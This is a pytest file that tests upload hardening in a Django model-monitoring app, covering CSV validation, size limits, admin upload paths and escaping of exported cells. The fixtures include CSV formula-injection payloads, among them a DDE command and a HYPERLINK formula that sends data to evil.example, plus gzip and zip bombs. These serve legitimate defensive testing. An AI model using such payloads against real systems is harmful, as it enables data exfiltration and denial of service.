"""Bad data files (CSV shape, cells, encodings, compression, sizes), the admin's upload path and CSV exports."""
from __future__ import annotations

import csv
import gzip
import html
import io
import pickle
import re
import struct
import time
import zipfile
import zlib
from datetime import timedelta
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from django.utils import timezone

from monitor.models import RegisteredModel
from tests.factories import (
    FEATURES,
    make_data,
    make_model,
    make_user,
    signal,
)
from tests.registry.uploads.helpers import (
    EMPTY,
    MEMBERS,
    NONMEMBERS,
    Browser,
    MiB,
    build_zip,
    command,
    deflate_run,
    good_skops,
    members_frame,
    peak_memory,
    refusal,
    stored,
)

pytestmark = pytest.mark.django_db


def frame_bytes(frame: pd.DataFrame) -> bytes:
    return frame.to_csv(index=False).encode()


def test_csv_with_wrong_columns_names_each_through_the_form(browser, upload_dir):
    """The model was fitted on an unnamed array, so the members file names the features; the others must match."""
    bad = frame_bytes(members_frame().rename(columns={"score": "colour"}))
    errors, details = refusal(browser.register(nonmembers=("nonmembers.csv", bad)))
    assert errors == {"nonmembers": ["the columns do not match the model's features"]}
    assert details == [{"column": "score", "message": "missing (the model expects it)"},
                       {"column": "colour", "message": "unexpected (not a feature of the model)"}]
    assert stored(upload_dir) == EMPTY


def test_csv_without_the_label_column_is_refused(browser, upload_dir):
    bad = frame_bytes(members_frame().drop(columns=["label"]))
    errors, details = refusal(browser.register(nonmembers=("nonmembers.csv", bad)))
    assert errors == {"nonmembers": ["the label column 'label' is missing"]}
    assert details == [{"column": "label", "message": "missing"}]
    assert stored(upload_dir) == EMPTY


def test_csv_repeating_a_column_name_is_refused_naming_it(browser, upload_dir):
    """pandas renames a second 'age' to 'age.1'; the message must name the column the file really has."""
    frame = members_frame()
    text = frame_bytes(frame).decode().replace("age,income", "age,age", 1)
    errors, details = refusal(browser.register(members=("members.csv", text.encode())))
    assert errors == {"members": ["duplicate column names"]}
    assert details == [{"column": "age", "message": "appears more than once"}]
    assert stored(upload_dir) == EMPTY


def test_formula_cells_in_number_columns_are_refused_with_row_and_column(browser, upload_dir):
    frame = members_frame()
    formulas = ["=cmd|' /C calc'!A0", "+SUM(1)", "@x", "-2+3", "=HYPERLINK(\"http://evil.example/?\"&A1)"]
    for row, value in enumerate(formulas):
        frame.loc[row, "income" if row % 2 else "age"] = value
    errors, details = refusal(browser.register(members=("members.csv", frame_bytes(frame))))
    assert errors == {"members": ["5 invalid cell(s)"]}
    # Column by column in the model's feature order, then row by row.
    assert details == [{"row": row + 1, "column": "age", "message": f"{formulas[row]!r} is not a number"} for row in (0, 2, 4)] + [
        {"row": row + 1, "column": "income", "message": f"{formulas[row]!r} is not a number"} for row in (1, 3)]
    assert stored(upload_dir) == EMPTY


def test_non_numeric_nan_and_infinite_cells_are_refused_with_row_and_column(browser, upload_dir):
    frame = members_frame()
    frame.loc[0, "score"], frame.loc[1, "score"], frame.loc[2, "score"] = "inf", "-Infinity", "NaN"
    frame.loc[3, "tenure"], frame.loc[4, "tenure"] = "1e999", "twelve"
    errors, details = refusal(browser.register(nonmembers=("nonmembers.csv", frame_bytes(frame))))
    assert errors == {"nonmembers": ["5 invalid cell(s)"]}
    assert details == [
        {"row": 4, "column": "tenure", "message": "'1e999' is not a finite number"},
        {"row": 5, "column": "tenure", "message": "'twelve' is not a number"},
        {"row": 1, "column": "score", "message": "'inf' is not a finite number"},
        {"row": 2, "column": "score", "message": "'-Infinity' is not a finite number"},
        {"row": 3, "column": "score", "message": "'NaN' is not a finite number"},
    ]
    assert stored(upload_dir) == EMPTY


@pytest.mark.parametrize(("data", "message"), [
    ("age,income,tenure,score,label\n1,2,3,4,no\n".encode("utf-16"),
     "the file is UTF-16 text; save it as UTF-8 CSV"),
    ("age,income,tenure,score,label\n1,2,3,4,no\n".encode("utf-16-be"),
     "the file is binary (it contains NUL bytes), not CSV text"),
    (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, "the file is binary (it contains NUL bytes), not CSV text"),
    ("âge,income\n".encode("latin-1") + b"1,2\n", "the file is not UTF-8 text (byte 0 cannot be decoded)"),
    (b"age,income,tenure,score,label\n", "the file has a header but no data rows"),
    (b"\n \n", "the file is empty"),
])
def test_csv_that_is_not_utf8_text_or_has_no_rows_is_refused(browser, upload_dir, data, message):
    errors, _ = refusal(browser.register(members=("members.csv", data)))
    assert errors == {"members": [message]}
    assert stored(upload_dir) == EMPTY


def test_an_empty_csv_is_refused_by_the_form_and_the_command(browser, upload_dir, tmp_path):
    errors, _ = refusal(browser.register(members=("members.csv", b"")))
    assert errors == {"members": ["The submitted file is empty."]}
    assert "--members: the file is empty" in command(tmp_path, members=("members.csv", b""))
    assert stored(upload_dir) == EMPTY


def test_a_csv_with_a_byte_order_mark_and_crlf_registers(browser, upload_dir):
    data = b"\xef\xbb\xbf" + MEMBERS.replace(b"\n", b"\r\n")
    response = browser.register(members=("members.csv", data))
    assert response.status_code == 302, response.content.decode()[:2000]
    model = RegisteredModel.objects.get(slug="web")
    assert model.feature_names == FEATURES
    assert np.allclose(model.datasets.get(kind="members").load().X, make_data(seed=1)[0])
    assert stored(upload_dir)["upload files left"] == []


@pytest.mark.parametrize(("kind", "phrase"), [("gzip", "gzip-compressed"), ("zip", "a ZIP archive (or an Excel workbook)"),
                                              ("bzip2", "bzip2-compressed"), ("xz", "xz-compressed")])
def test_a_compressed_csv_is_refused_as_not_csv(browser, upload_dir, kind, phrase):
    import bz2
    import lzma

    if kind == "zip":
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("members.csv", MEMBERS)
        data = buffer.getvalue()
    else:
        data = {"gzip": gzip.compress, "bzip2": bz2.compress, "xz": lzma.compress}[kind](MEMBERS)
    errors, _ = refusal(browser.register(members=("members.csv", data)))
    assert errors == {"members": [f"the file is {phrase}, not CSV text; upload the plain .csv file"]}
    assert stored(upload_dir) == EMPTY


def test_a_gzip_bomb_csv_is_refused_without_inflating_it(browser, upload_dir):
    """The CSV path never decompresses: a gzip of 1 GiB of CSV rows is refused from its first bytes."""
    data, crc, size = deflate_run(2**30, prefix=b"age,income,tenure,score,label\n", fill=b"1")
    bomb = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + data + struct.pack("<2L", crc, size % 2**32)
    assert len(bomb) < 2 * MiB and zlib.decompressobj(31).decompress(bomb, 64).startswith(b"age,income,tenure")
    response, peak = peak_memory(lambda: browser.register(members=("members.csv", bomb)))
    errors, _ = refusal(response)
    assert errors == {"members": ["the file is gzip-compressed, not CSV text; upload the plain .csv file"]}
    assert peak < 64 * MiB
    assert stored(upload_dir) == EMPTY


def test_duplicate_and_empty_record_ids_are_refused_naming_their_rows(browser, upload_dir):
    frame = members_frame()
    frame.insert(0, "record", [f"r{i}" for i in range(len(frame))])
    frame.loc[5, "record"] = "r1"
    frame.loc[7, "record"] = " "
    errors, details = refusal(browser.register(members=("members.csv", frame_bytes(frame)), id_column="record"))
    assert errors == {"members": ["2 invalid record id(s) in column 'record'"]}
    assert details == [{"row": 6, "column": "record", "message": "'r1' repeats the id of row 2"},
                       {"row": 8, "column": "record", "message": "empty id"}]
    assert stored(upload_dir) == EMPTY


def test_formula_looking_record_ids_are_stored_as_data(browser, upload_dir):
    """Decision: text columns (record ids, labels) are identifiers the owner chose; '-1' or '@x' are legitimate
    ids, so they are stored exactly, and every CSV export escapes text cells instead (tests below)."""
    ids = ["=cmd|' /C calc'!A0", "+SUM(1)", "@x", "-2+3", "\tTAB"]
    frame = members_frame()
    frame.insert(0, "record", [f"r{i}" for i in range(len(frame))])
    frame.loc[: len(ids) - 1, "record"] = ids
    nonmembers = pd.read_csv(io.BytesIO(NONMEMBERS), dtype=str)
    nonmembers.insert(0, "record", [f"n{i}" for i in range(len(nonmembers))])
    response = browser.register(members=("members.csv", frame_bytes(frame)),
                                nonmembers=("nonmembers.csv", frame_bytes(nonmembers)), id_column="record")
    assert response.status_code == 302
    arrays = RegisteredModel.objects.get(slug="web").datasets.get(kind="members").load()
    assert arrays.record_ids[: len(ids)].tolist() == [i.strip() for i in ids]


# --- size limits ------------------------------------------------------------------------------------------

def test_the_configured_size_limits_refuse_uploads_through_the_form(browser, upload_dir, settings):
    settings.DATASET_MAX_BYTES = 2_000
    errors, _ = refusal(browser.register())
    assert errors == {
        "members": [f"the file is {len(MEMBERS):,} bytes; the limit is 2,000 bytes (DATASET_MAX_BYTES)"],
        "nonmembers": [f"the file is {len(NONMEMBERS):,} bytes; the limit is 2,000 bytes (DATASET_MAX_BYTES)"],
    }
    settings.DATASET_MAX_BYTES, settings.ARTIFACT_MAX_BYTES = 10 * MiB, 1_000
    errors, _ = refusal(browser.register())
    assert errors == {"artifact": [f"the file is {len(good_skops()):,} bytes; the limit is 1,000 bytes (ARTIFACT_MAX_BYTES)"]}
    assert stored(upload_dir) == EMPTY


def test_the_command_refuses_an_oversized_file_without_reading_it(tmp_path, upload_dir, settings):
    settings.DATASET_MAX_BYTES = MiB
    big = MEMBERS + MEMBERS.split(b"\n", 1)[1] * (24 * MiB // len(MEMBERS))
    message, peak = peak_memory(lambda: command(tmp_path, members=("members.csv", big)))
    assert message == (f"nothing was registered.\n--members: the file is {len(big):,} bytes; "
                       f"the limit is {MiB:,} bytes (DATASET_MAX_BYTES)")
    assert peak < 8 * MiB, f"{peak / MiB:.0f} MiB held for a {len(big) / MiB:.0f} MiB file"
    settings.ARTIFACT_MAX_BYTES = 1_000
    assert command(tmp_path, artifact=("m.skops", None)).endswith(
        f"--artifact: the file is {len(good_skops()):,} bytes; the limit is 1,000 bytes (ARTIFACT_MAX_BYTES)")
    assert stored(upload_dir) == EMPTY


def stream_registration(browser: Browser, folder: Path, *, members_size: int):
    """POST the registration form with a members CSV of `members_size` bytes or more, streamed from a file on
    disk through the real request handler (middleware, session, CSRF, multipart parser, form, view), as a
    server would: the test never holds the body in memory. Returns the response, the most memory Python
    held during the request, the CSV's size, and the bytes this process wrote (Linux, else None)."""
    boundary = "----upload-hardening-boundary"
    body = folder / "body"
    row = MEMBERS.split(b"\n")[1] + b"\n"
    with body.open("wb") as out:
        def part(name: str, value: str) -> None:
            out.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode())

        def file_header(name: str, filename: str) -> None:
            out.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; filename="{filename}"\r\n'
                      f"Content-Type: text/csv\r\n\r\n".encode())

        for name, value in {"csrfmiddlewaretoken": browser.token, "slug": "big", "name": "Big", "label_column": "label",
                            "output_policy": "full"}.items():
            part(name, value)
        file_header("artifact", "m.skops")
        out.write(good_skops() + b"\r\n")
        file_header("nonmembers", "nonmembers.csv")
        out.write(NONMEMBERS + b"\r\n")
        file_header("members", "members.csv")
        out.write(MEMBERS)
        block = row * (MiB // len(row))
        csv_size = len(MEMBERS)
        while csv_size < members_size:
            out.write(block)
            csv_size += len(block)
        out.write(f"\r\n--{boundary}--\r\n".encode())
    client = browser.client
    io_stats = Path("/proc/self/io")
    written_before = _bytes_written(io_stats)
    with body.open("rb") as stream:
        environ = client._base_environ(
            PATH_INFO=reverse("model-register"), REQUEST_METHOD="POST", CONTENT_LENGTH=str(body.stat().st_size),
            CONTENT_TYPE=f"multipart/form-data; boundary={boundary}", **{"wsgi.input": stream})
        response, peak = peak_memory(lambda: client.handler(environ))
    written = _bytes_written(io_stats) - written_before if written_before is not None else None
    return response, peak, csv_size, written


def _bytes_written(io_stats: Path) -> int | None:
    """Bytes this process has passed to write() so far (Linux: /proc/self/io wchar)."""
    if not io_stats.exists():
        return None
    return int(re.search(r"^wchar: (\d+)$", io_stats.read_text(), re.M).group(1))


def test_a_real_upload_over_the_default_limit_is_refused_without_holding_it_in_memory(browser, upload_dir, settings, tmp_path):
    """A CSV of the configured DATASET_MAX_BYTES (100 MiB by default) plus 1 MiB: refused from its size, the
    body never in memory, and the file never read by the view."""
    limit = settings.DATASET_MAX_BYTES
    started = time.perf_counter()
    response, peak, size, _ = stream_registration(browser, tmp_path, members_size=limit + MiB)
    elapsed = time.perf_counter() - started
    assert response.status_code == 400
    page = html.unescape(response.content.decode())
    assert f"the file is {size:,} bytes; the limit is {limit:,} bytes (DATASET_MAX_BYTES)" in page
    assert peak < 32 * MiB, f"{peak / MiB:.0f} MiB held while refusing a {size / MiB:.0f} MiB upload"
    assert stored(upload_dir) == EMPTY
    print(f"\n{size / MiB:.0f} MiB upload refused in {elapsed:.1f} s (incl. writing it), peak Python memory {peak / MiB:.1f} MiB")


def test_an_oversized_upload_is_not_written_to_disk_past_the_limit(browser, upload_dir, settings, tmp_path):
    """Django writes an upload to a temporary file however large it is; past the largest upload limit the rest
    is read and dropped, so an endless upload cannot fill the disk. Measured as the bytes this process wrote."""
    if not Path("/proc/self/io").exists():
        pytest.skip("measures writes through Linux /proc/self/io")
    settings.DATASET_MAX_BYTES = settings.ARTIFACT_MAX_BYTES = MiB
    response, _, size, written = stream_registration(browser, tmp_path, members_size=48 * MiB)
    assert response.status_code == 400
    page = html.unescape(response.content.decode())
    assert f"the file is {size:,} bytes; the limit is {MiB:,} bytes (DATASET_MAX_BYTES)" in page
    assert written < 8 * MiB, f"{written / MiB:.0f} MiB written to disk for a {size / MiB:.0f} MiB upload"
    assert stored(upload_dir) == EMPTY


# --- the Django admin -------------------------------------------------------------------------------------

def test_the_admin_has_no_upload_path_of_its_own(upload_dir):
    """Its "Add" opens the registration form; artifacts and datasets have no add or upload form in it."""
    admin = Browser()
    client = admin.client
    response = client.get("/admin/monitor/registeredmodel/add/")
    assert response.status_code == 302 and response["Location"] == reverse("model-register")
    posted = client.post("/admin/monitor/registeredmodel/add/", {
        "csrfmiddlewaretoken": admin.token, "slug": "adm", "name": "Adm", "label_column": "label",
        "artifact": SimpleUploadedFile("m.pkl", pickle.dumps({"a": 1})),
        "members": SimpleUploadedFile("members.csv", MEMBERS), "nonmembers": SimpleUploadedFile("n.csv", NONMEMBERS)})
    assert posted.status_code == 302 and posted["Location"] == reverse("model-register")
    assert stored(upload_dir) == EMPTY
    model = make_model(slug="existing")
    change = client.get(f"/admin/monitor/registeredmodel/{model.pk}/change/").content.decode()
    assert 'type="file"' not in change and "multipart/form-data" not in change
    for path in ("/admin/monitor/modelartifact/add/", "/admin/monitor/referencedataset/add/"):
        assert client.get(path).status_code == 404


# --- exports escape formula cells -------------------------------------------------------------------------

def test_every_exported_text_cell_that_could_run_as_a_formula_is_escaped(db):
    from audits.evidence.build import build_period_bundle
    from audits.evidence.format import FORMULA_PREFIXES
    from monitor.alerts.lifecycle import acknowledge, mute, raise_signal

    model = make_model(slug="export")
    muted, _ = raise_signal(signal(model=model, client_id="=cmd|' /C calc'!A0", kind="near_duplicate_sweep"))
    mute(muted, user=make_user(role="security", username="@x"), until=timezone.now() + timedelta(days=1),
         reason='=HYPERLINK("http://evil.example/?"&A1,"see")')
    acked, _ = raise_signal(signal(model=model, client_id="+SUM(1)", kind="boundary_probing"))
    acknowledge(acked, user=make_user(role="security", username="-2+3"), note="\tlooks scripted")
    now = timezone.now()
    bundle = build_period_bundle(model=model, start=model.created_at, end=now)
    with zipfile.ZipFile(io.BytesIO(bundle)) as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("alerts.csv").decode())))
    assert {row["client_id"] for row in rows} == {"'=cmd|' /C calc'!A0", "'+SUM(1)"}
    muted_row = next(row for row in rows if row["event"] == "muted")
    assert muted_row["client_id"] == "'=cmd|' /C calc'!A0" and muted_row["event_actor"] == "'@x"
    assert muted_row["mute_reason"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"see\")"
    acked_row = next(row for row in rows if row["event"] == "acknowledged")
    assert acked_row["acknowledged_by"] == "'-2+3" and acked_row["event_actor"] == "'-2+3"
    assert acked_row["event_note"] == "'\tlooks scripted"
    for row in rows:
        for cell in row.values():
            if cell.startswith(FORMULA_PREFIXES):
                float(cell)  # only numbers we computed may start like a formula


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\0=1+1"])
def test_csv_cells_escape_every_formula_prefix_including_nul(text):
    """OWASP's list plus NUL (ASVS 5.0 1.2.10): some spreadsheet importers drop a leading NUL."""
    from audits.evidence.format import csv_cell

    assert csv_cell(text) == "'" + text
    assert csv_cell(-2.5) == -2.5 and csv_cell(3) == 3  # numbers we computed stay numbers


# --- evidence bundles handed to verify_evidence -----------------------------------------------------------

def test_verifying_a_bundle_with_zip_bombs_inside_never_holds_them_in_memory(tmp_path):
    """verify_evidence reads a bundle someone handed over. One member declares and inflates to 256 MiB (the
    manifest agrees), another declares 10 bytes and inflates to 256 MiB: each is hashed or read in steps,
    never inflated whole, and the check fails naming the file."""
    import json

    honest, crc, size = deflate_run(256 * MiB, fill=b"1")
    lying, _, _ = deflate_run(256 * MiB, prefix=b'{"seq": 1}', fill=b"\n")
    manifest = json.dumps({"files": {"metrics.csv": {"sha256": "0" * 64, "size": size},
                                     "audit_log.jsonl": {"sha256": "0" * 64, "size": 10}}}).encode()
    bundle = tmp_path / "bundle.zip"
    bundle.write_bytes(build_zip([
        ("MANIFEST.json", zipfile.ZIP_STORED, manifest, zlib.crc32(manifest), len(manifest)),
        ("metrics.csv", zipfile.ZIP_DEFLATED, honest, crc, size),
        ("audit_log.jsonl", zipfile.ZIP_DEFLATED, lying, zlib.crc32(b'{"seq": 1}'), 10),
    ]))
    assert bundle.stat().st_size < MiB

    def verify() -> str:
        with pytest.raises(CommandError) as caught:
            call_command("verify_evidence", str(bundle), stdout=io.StringIO())
        return str(caught.value)

    message, peak = peak_memory(verify)
    assert "metrics.csv: SHA-256" in message and "does not match MANIFEST.json" in message
    assert peak < 64 * MiB, f"{peak / MiB:.0f} MiB held verifying a {bundle.stat().st_size / MiB:.1f} MiB bundle"

